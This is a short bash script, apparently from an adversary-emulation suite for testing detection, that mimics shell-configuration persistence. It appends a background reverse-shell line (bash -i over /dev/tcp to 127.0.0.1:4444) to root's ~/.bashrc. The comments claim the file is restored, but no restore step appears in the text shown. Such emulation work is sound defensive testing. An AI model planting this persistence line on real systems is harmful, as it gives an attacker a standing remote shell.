#!/bin/bash
# vigil-emulation: attack
# technique: T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# tactic: persistence, privilege-escalation
# what: appends a line to root's ~/.bashrc that starts a background reverse shell to
#   127.0.0.1 at every interactive login (`(nohup bash -c 'bash -i >& /dev/tcp/...' &)`);
#   ~/.bashrc is restored exactly at the end.
# report: root's .bashrc modified by echo from a shell to run a network shell at login.
# expect: bashrc|shell config|shell profile|profile|rc file|startup file|start-up file
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_backup "$HOME/.bashrc"
echo "(nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' >/dev/null 2>&1 &) 2>/dev/null" >>"$HOME/.bashrc"
tail -1 "$HOME/.bashrc"
